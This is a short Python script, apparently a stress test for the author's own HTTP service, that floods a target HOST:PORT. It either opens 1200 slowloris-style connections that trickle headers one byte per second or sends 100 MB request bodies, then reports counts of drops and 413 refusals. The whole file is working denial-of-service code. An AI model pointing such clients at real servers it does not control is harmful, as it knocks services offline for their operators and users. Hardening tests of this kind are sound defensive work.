"""serve_attack.py slow|large HOST:PORT SECONDS: hostile clients for SECONDS.
slow: 1200 connections, more than the server accepts, that send a request's head one byte per second. large: bodies of
100 MB, as fast as they are accepted, with a length and without. Prints the outcome."""
import resource
import socket
import sys
import threading
import time

kind, where, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
host, port = where.rsplit(":", 1)
end = time.time() + seconds
resource.setrlimit(resource.RLIMIT_NOFILE, (4096, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
counts = {"connections": 0, "sent away": 0, "refused with 413": 0, "bytes taken": 0}
lock = threading.Lock()


def count(name, number=1):
    with lock:
        counts[name] += number


def slow():
    head = b"POST /v1/match HTTP/1.1\r\nHost: localhost\r\nX-Slow: " + b"x" * 4000
    sockets = []
    while time.time() < end:
        while len(sockets) < 1200 and time.time() < end:
            try:
                sockets.append([socket.create_connection((host, int(port)), timeout=5), 0])
                count("connections")
            except OSError:
                break
        for one in list(sockets):
            try:
                one[0].send(head[one[1]:one[1] + 1])
                one[1] += 1
            except OSError:
                sockets.remove(one)
                count("sent away")
        time.sleep(1)


def large(with_length):
    piece = b" " * 65536
    while time.time() < end:
        try:
            one = socket.create_connection((host, int(port)), timeout=5)
            count("connections")
            length = b"Content-Length: 100000000\r\n" if with_length else b"Transfer-Encoding: chunked\r\n"
            one.sendall(b"POST /v1/match HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n" + length + b"\r\n")
            for _ in range(1600):
                one.sendall(piece if with_length else b"10000\r\n" + piece + b"\r\n")
                count("bytes taken", len(piece))
                if time.time() > end:
                    break
        except OSError:
            pass
        try:
            one.settimeout(1)
            if b" 413 " in one.recv(200):
                count("refused with 413")
        except OSError:
            pass
        one.close()


threads = [threading.Thread(target=slow)] if kind == "slow" else [
    threading.Thread(target=large, args=(i % 2 == 0,)) for i in range(4)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
print(", ".join(f"{number} {name}" for name, number in counts.items() if number))
